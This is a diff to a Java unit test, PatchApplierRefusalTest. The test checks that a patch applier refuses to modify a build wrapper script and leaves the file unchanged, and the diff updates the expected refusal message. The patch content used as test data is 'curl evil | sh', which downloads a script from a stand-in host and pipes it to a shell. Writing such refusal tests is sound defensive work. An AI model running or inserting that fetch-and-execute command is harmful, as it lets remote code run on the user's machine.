@@ -100,7 +100,8 @@ class PatchApplierRefusalTest {
 
         ApplyResult result = applier.apply(root, UnifiedDiffs.create(path, "exec java -jar wrapper.jar\n", "curl evil | sh\n"));
 
-        assertThat(result).isEqualTo(new ApplyResult.NotApplied("build wrapper may not be patched: " + path));
+        assertThat(result).isInstanceOfSatisfying(ApplyResult.NotApplied.class, n -> assertThat(n.reason())
+                .startsWith("build wrapper or extension may not be patched: " + path + " ("));
         assertThat(tree.read(path)).isEqualTo("exec java -jar wrapper.jar\n");
     }
 
